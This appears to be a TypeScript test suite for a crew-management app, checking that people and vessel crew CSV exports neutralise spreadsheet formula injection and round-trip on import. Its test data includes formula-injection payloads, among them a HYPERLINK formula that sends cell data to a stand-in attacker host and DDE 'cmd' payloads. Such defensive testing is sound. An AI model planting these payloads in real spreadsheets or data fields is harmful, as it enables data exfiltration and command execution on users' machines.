import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { base64, personInput, vesselWithPosition } from '../../helpers/fleet';
import { tempCore } from '../../helpers/temp-core';

/**
 * Formula injection (OWASP): every CSV the app writes neutralises a cell a spreadsheet would run, and the app's
 * own import gives the original value back.
 */
let core: ReturnType<typeof tempCore>;
beforeEach(() => {
  core = tempCore();
});
afterEach(() => core.dispose());

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r=2+2', '＝1+1', '＋cmd', '－1', '＠SUM(A1)'];
const PEOPLE_FIELDS = ['givenNames', 'surname', 'phone', 'emergencyContactName', 'emergencyContactPhone', 'emergencyContactRelation'] as const;

describe('people export', () => {
  it('prefixes every cell that would start a formula, and importing the export gives the values back', async () => {
    for (const [i, formula] of FORMULAS.entries()) {
      await core.call('people.create', personInput({ givenNames: formula, surname: `Doe${i}`, email: null, phone: formula.slice(0, 40), emergencyContactName: formula }));
    }
    const exported = await core.call('people.exportCsv', {});
    expect(exported.csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",Doe0`);
    expect(exported.csv).toContain("'-2+3,Doe3");
    expect(exported.csv).toContain("'＝1+1,Doe6");
    // No cell of the file starts a formula (cells split naively: a quoted comma only makes more harmless pieces).
    const cells = exported.csv.split(/[,\n]/).map((c) => c.replace(/^"/, ''));
    expect(cells.filter((c) => /^[=+\-@\t\r＝＋－＠]/.test(c))).toEqual([]);

    const other = tempCore();
    try {
      expect(await other.call('people.import', { contentBase64: base64(exported.csv) })).toMatchObject({ imported: FORMULAS.length, skipped: 0 });
      const names = async (c: typeof core) => (await c.call('people.list', { archived: 'include', limit: 100 })).rows.map((r) => r.givenNames).sort();
      expect(await names(other)).toEqual(await names(core));
      expect((await other.call('people.exportCsv', {})).csv).toBe(exported.csv);
    } finally {
      await other.dispose();
    }
  });

  it('round-trips any text through export and import (property)', async () => {
    const text = fc.string({ unit: 'binary', minLength: 1, maxLength: 24 }).map((s) => s.replace(/\0/g, ''));
    const prefixed = fc.tuple(fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', "'", "''=", "'-"), text).map(([p, s]) => `${p}${s}`);
    const person = fc.record(Object.fromEntries(PEOPLE_FIELDS.map((f) => [f, prefixed])) as Record<(typeof PEOPLE_FIELDS)[number], fc.Arbitrary<string>>);
    await fc.assert(
      fc.asyncProperty(fc.array(person, { minLength: 1, maxLength: 4 }), async (people) => {
        const [from, to] = [tempCore(), tempCore()];
        try {
          const stored = [];
          for (const [i, fields] of people.entries()) {
            // The schema trims and requires names; the import must give back what was stored.
            const input = personInput({ ...fields, givenNames: `${fields.givenNames}x`, surname: `${fields.surname}${i}`, email: null });
            stored.push(await from.call('people.create', input));
          }
          const exported = await from.call('people.exportCsv', {});
          const result = await to.call('people.import', { contentBase64: base64(exported.csv) });
          expect(result.report.rowProblems).toEqual([]);
          const back = (await to.call('people.list', { archived: 'include', limit: 100 })).rows;
          for (const person of stored) {
            const twin = back.find((r) => r.surname === person.surname)!;
            const detail = (await to.call('people.get', { id: twin.id })).person;
            for (const field of PEOPLE_FIELDS) expect(detail[field]).toBe(person[field]);
          }
        } finally {
          await from.dispose();
          await to.dispose();
        }
      }),
      { numRuns: 12 },
    );
  }, 60_000);
});

describe('vessel crew list export', () => {
  it('prefixes cells that would start a formula', async () => {
    const { vessel, position } = await vesselWithPosition(core, { title: '=cmd|calc' });
    const person = await core.call('people.create', personInput({ givenNames: '@SUM(A1)', surname: '+Smith' }));
    await core.call('assignments.create', { personId: person.id, positionId: position.id, startDate: '2024-01-01' });
    const out = await core.call('vessels.exportCrew', { id: vessel.id, asOf: '2024-01-10' });
    expect(out.csv.split('\n')[1]).toBe("Interior,'=cmd|calc,'@SUM(A1),'+Smith,United Kingdom,2024-01-01,,4:2,Onboard");
  });
});
